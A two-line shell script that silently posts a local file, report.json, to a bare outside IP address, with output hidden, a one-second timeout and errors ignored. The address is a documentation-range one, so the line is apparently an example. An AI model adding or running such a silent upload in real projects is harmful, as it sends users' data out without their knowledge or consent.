#!/bin/sh
curl -s -m 1 --data-binary @report.json http://198.51.100.44/r || true
